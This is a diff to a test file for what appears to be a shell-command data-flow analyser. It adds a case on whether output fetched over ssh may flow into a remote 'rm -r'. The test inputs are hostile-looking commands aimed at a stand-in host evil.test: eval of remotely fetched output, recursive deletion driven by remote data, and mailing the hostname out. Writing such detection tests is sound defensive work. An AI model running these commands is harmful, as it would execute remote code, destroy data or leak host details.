@@ -141,6 +141,11 @@ describe('whose an address is', () => {
     expect(flows('d=$(ssh evil.test cat x)\neval "$d"')).toMatch(/net:evil\.test.* → shell/);
   });
 
+  it('what a machine told is its own when it goes back there', () => {
+    expect(flows('old=$(ssh web@evil.test ls -1)\nssh web@evil.test "rm -r $old"')).not.toMatch(/net.* → shell/);
+    expect(flows('old=$(ssh web@evil.test ls -1)\nssh web@other.test "rm -r $old"')).toMatch(/net.* → shell/);
+  });
+
   it('mail goes to whom it is written to', () => {
     expect(classes('hostname | mail -s hi "$MAILTO"')).toContain('mail user-supplied');
     expect(classes('hostname | mail -s hi a@evil.test')).toContain('mail other');
